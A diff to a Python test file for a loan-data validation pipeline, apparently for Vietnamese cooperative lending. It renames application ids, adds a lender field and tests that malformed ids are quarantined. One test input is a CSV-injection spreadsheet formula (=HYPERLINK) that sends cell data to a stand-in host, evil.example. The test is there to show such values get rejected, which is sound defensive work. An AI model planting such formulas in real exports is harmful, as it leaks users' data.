@@ -64,9 +64,10 @@ def valid_export() -> dict[str, pd.DataFrame]:
             "buyer_tax_code_present": ["true", "false"],
         }),
         "loan_applications": pd.DataFrame({
-            "application_id": ["A1", "A2", "A3"],
+            "application_id": ["HS00000001", "HS00000002", "HS00000003"],
             "entity_type": ["member", "member", "cooperative"],
             "entity_id": ["TV0000001", "TV0000002", "HTX000001"],
+            "lender_id": ["demo-bank", "quy-htx-trung-uong", "quy-htx-ha-noi"],
             "application_date": ["2025-01-15", "2025-02-01", "2025-03-10"],
             "requested_amount_vnd": [300_000_000, 500_000_000, 5_000_000_000],  # each at its limit
             "term_months": [12, 24, 36],
@@ -75,7 +76,7 @@ def valid_export() -> dict[str, pd.DataFrame]:
         }),
         "loans": pd.DataFrame({
             "loan_id": ["L1", "L2"],
-            "application_id": ["A1", "A3"],
+            "application_id": ["HS00000001", "HS00000003"],
             "entity_type": ["member", "cooperative"],
             "entity_id": ["TV0000001", "HTX000001"],
             "disbursal_date": ["2025-01-20", "2025-03-15"],
@@ -89,7 +90,7 @@ def valid_export() -> dict[str, pd.DataFrame]:
             "amount_due_vnd": [27_000_000, 27_000_000, 130_000_000],
             "amount_paid_vnd": [27_000_000, 0, 130_000_000],
         }),
-        "true_pd": pd.DataFrame({"application_id": ["A1", "A2", "A3"], "true_pd": [0.04, 0.11, 0.02]}),
+        "true_pd": pd.DataFrame({"application_id": ["HS00000001", "HS00000002", "HS00000003"], "true_pd": [0.04, 0.11, 0.02]}),
     }
 
 
@@ -222,24 +223,33 @@ DIRT = [
      "unknown_loan", "loan_id='L999' is not among the accepted loans"),
     ("repayment before disbursal", "repayments", {"month": "2024-12-31"},
      "before_disbursal", "month=2024-12-31 ended before loan 'L1'"),
-    ("loan for an unknown application", "loans", {"loan_id": "L9", "application_id": "A99"},
-     "unknown_application", "application_id='A99'"),
+    ("loan for an unknown application", "loans", {"loan_id": "L9", "application_id": "HS00000099"},
+     "unknown_application", "application_id='HS00000099'"),
     ("loan to someone else", "loans", {"loan_id": "L9", "entity_id": "TV0000002"},
-     "application_entity_mismatch", "application 'A1' was made by member 'TV0000001'"),
+     "application_entity_mismatch", "application 'HS00000001' was made by member 'TV0000001'"),
     ("disbursed before applying", "loans", {"loan_id": "L9", "disbursal_date": "2025-01-01"},
      "disbursed_before_application", "before the application_date 2025-01-15"),
-    ("true PD of an unknown application", "true_pd", {"application_id": "A99"},
-     "unknown_application", "application_id='A99'"),
+    ("true PD of an unknown application", "true_pd", {"application_id": "HS00000099"},
+     "unknown_application", "application_id='HS00000099'"),
     ("household above Decree 156 limit", "loan_applications",
-     {"application_id": "AX", "entity_id": "TV0000001", "requested_amount_vnd": 300_000_001},
+     {"application_id": "HS00000009", "entity_id": "TV0000001", "requested_amount_vnd": 300_000_001},
      "above_unsecured_limit", "300,000,000 VND for a household (Decree 156/2025/ND-CP)"),
     ("household business above Decree 156 limit", "loan_applications",
-     {"application_id": "AX", "entity_id": "TV0000002", "requested_amount_vnd": 500_000_001},
+     {"application_id": "HS00000009", "entity_id": "TV0000002", "requested_amount_vnd": 500_000_001},
      "above_unsecured_limit", "500,000,000 VND for a household business (Decree 156/2025/ND-CP)"),
     ("cooperative above Decree 156 limit", "loan_applications",
-     {"application_id": "AX", "entity_type": "cooperative", "entity_id": "HTX000001",
+     {"application_id": "HS00000009", "entity_type": "cooperative", "entity_id": "HTX000001",
       "requested_amount_vnd": 5_000_000_001},
      "above_unsecured_limit", "5,000,000,000 VND for a cooperative (Decree 156/2025/ND-CP)"),
+    ("application to an unknown lender", "loan_applications",
+     {"application_id": "HS00000009", "lender_id": "ngan-hang-la"},
+     "not_allowed", "lender_id='ngan-hang-la' is not one of the allowed values: demo-bank"),
+    # spreadsheet formulas (CSV injection) and mangled ids never reach the console or its export
+    *[(f"application id {bad!r}", "loan_applications", {"application_id": bad}, "bad_format",
+       f"application_id={bad!r} does not have the expected form ^HS[0-9]{{8}}$")
+      for bad in ('=HYPERLINK("http://evil.example/?d="&B2,"HS00000001")', "+HS00000001",
+                  "-HS00000001", "@HS00000001", "\tHS00000001", "HS00000001\r\n", "HS00000001\n",
+                  "hs00000001", "HS0000001", "HS000000012")],
 ]
 
 
@@ -263,13 +273,13 @@ def test_each_kind_of_dirt_is_quarantined_with_its_rule(tmp_path, fmt, case, tab
 def test_limit_follows_the_members_legal_form(tmp_path):
     """400 million is fine for a household business (limit 500) and too much for a household (300)."""
     tables = valid_export()
-    household = add_row(tables, "loan_applications", application_id="AH", entity_id="TV0000001",
+    household = add_row(tables, "loan_applications", application_id="HS00000008", entity_id="TV0000001",
                         requested_amount_vnd=400_000_000)
-    add_row(tables, "loan_applications", application_id="AB", entity_id="TV0000002",
+    add_row(tables, "loan_applications", application_id="HS00000007", entity_id="TV0000002",
             requested_amount_vnd=400_000_000)
     run(tmp_path, tables)
     assert quarantined(tmp_path, "loan_applications")["source_row"].tolist() == [household]
-    assert "AB" in clean(tmp_path, "loan_applications")["application_id"].tolist()
+    assert "HS00000007" in clean(tmp_path, "loan_applications")["application_id"].tolist()
 
 
 def test_duplicate_key_keeps_the_first_occurrence(tmp_path):
@@ -314,7 +324,7 @@ def test_refused_parent_takes_its_children_to_quarantine(tmp_path):
     assert q["source_row"].tolist() == [0]
     assert q["rule"].tolist() == ["unknown_entity"]
     assert report.table("loan_applications").reasons == {"unknown_entity": 1}
-    assert report.table("loans").reasons.get("unknown_application") == 1  # L1 came from A1
+    assert report.table("loans").reasons.get("unknown_application") == 1  # L1 came from HS00000001
     assert report.table("repayments").reasons == {"unknown_loan": 2}  # L1's two months
 
 
